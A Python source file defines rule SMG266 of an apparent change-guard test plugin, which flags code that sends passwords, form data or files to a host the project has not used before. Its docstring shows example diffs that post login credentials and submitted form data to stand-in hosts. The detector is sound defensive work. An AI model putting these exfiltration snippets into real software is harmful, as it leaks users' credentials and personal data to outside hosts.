"""SMG266: what users or the machine keep to themselves goes to a host that is new here."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, change_rule
from pytest_selfmod_guard.syntax import Unparsable

if TYPE_CHECKING:
    from pytest_selfmod_guard.rules.danger._flow import Flow
    from pytest_selfmod_guard.rules.danger._flow_sends import Send
    from pytest_selfmod_guard.view import File, View

_HOST = re.compile(
    r"(?i)\b(?:https?|wss?|ftp)://(?:[^\s/@*]{0,80}@)?([a-z0-9][\w.-]{2,200}\.[a-z]\w+|\d+(?:\.\d+){3})"
)
_OURS = re.compile(
    r"(?i)^(?:localhost|127\.|0\.0\.0\.0|testserver)|(?:^|\.)example\.(?:com|org|net)$"
)
_SERVICE = re.compile(r"(?i)oauth|/token\b|authori[sz]e|openid|userinfo|introspect")


@change_rule(
    "SMG266",
    risk=Risk.HIGH,
    hint="send nothing of users or of the machine to a host that the project does not talk to yet; "
    "where it is meant, take the address from the settings and have a person agree",
)
def told_to_a_new_host(view: View) -> Iterable[Sighting]:
    """
    Data of users, a login or a file goes to a host whose address is new in the project.

    Passwords, tokens, forms, mail addresses, cards, messages, files and the
    environment, sent to an address that is written down and that the base
    mentions nowhere. Logging in by OAuth is silent. Whether the host is to be
    trusted only a person knows.

    Flagged: a password along with it
        === shop/login.py
          import requests
          def login(name, password):
        +     requests.post("https://audit.example.invalid/in", json={"n": name, "p": password})
              return known(name, password)

    Flagged: in the address
        === shop/login.py
          from urllib.parse import urlencode
          from urllib.request import urlopen
          def login(name, password):
        +     told = urlencode({"n": name, "p": password})
        +     urlopen("https://audit.example.invalid/in?" + told)
              return known(name, password)

    Flagged: whatever people fill in
        === shop/views.py
          import requests
          from flask import request
          def after(response):
        +     requests.post("https://cdn.example.invalid/t.gif", data=request.form.to_dict())
              return response

    Allowed: where it goes already
        === shop/login.py
          import requests
          def login(name, password):
        -     return requests.post("https://id.example.invalid/in", json={"n": name, "p": password})
        +     return requests.post("https://id.example.invalid/v2", json={"n": name, "p": password})

    Allowed: nothing of anybody
        === shop/rates.py
          import requests
          def rates(currency):
        +     return requests.post("https://rates.example.invalid/v1", json={"c": currency})
    """
    for file in view.files:
        for host, send, flow, what in _sent(file):
            if not _is_known(view, file, host):
                node = send.call.node
                line, code = flow.python.line(node), flow.python.code(node)
                said = f"{what} goes to {host}, of which the project knows nothing so far"
                scope = send.call.scope
                yield Sighting(line, said, code, scope, file.path, settled_by="review")


def _sent(file: File) -> Iterator[tuple[str, Send, Flow, str]]:
    side = file.new
    if side is None or not side.is_python or not _HOST.search(side.text or ""):
        return
    python = side.python
    if isinstance(python, Unparsable):
        return
    from pytest_selfmod_guard.rules.danger._flow import flow  # noqa: PLC0415 (imports libcst)
    from pytest_selfmod_guard.rules.danger._flow_sends import sends  # noqa: PLC0415 (likewise)
    from pytest_selfmod_guard.rules.danger._told import addresses, kept_private  # noqa: PLC0415

    known = flow(python)
    for send in sends(known):
        found = [(text, hit[1]) for text in addresses(known, send) if (hit := _HOST.search(text))]
        if not found or _OURS.search(found[0][1]) or _SERVICE.search(found[0][0]):
            continue
        what = kept_private(known, send, test=paths.zone(side.path) == paths.TEST)
        if what:
            yield found[0][1], send, known, what


def _is_known(view: View, file: File, host: str) -> bool:
    if any(one.old is not None and host in (one.old.text or "") for one in (file, *view.files)):
        return True
    return bool(view.rest.mentioning([host]))
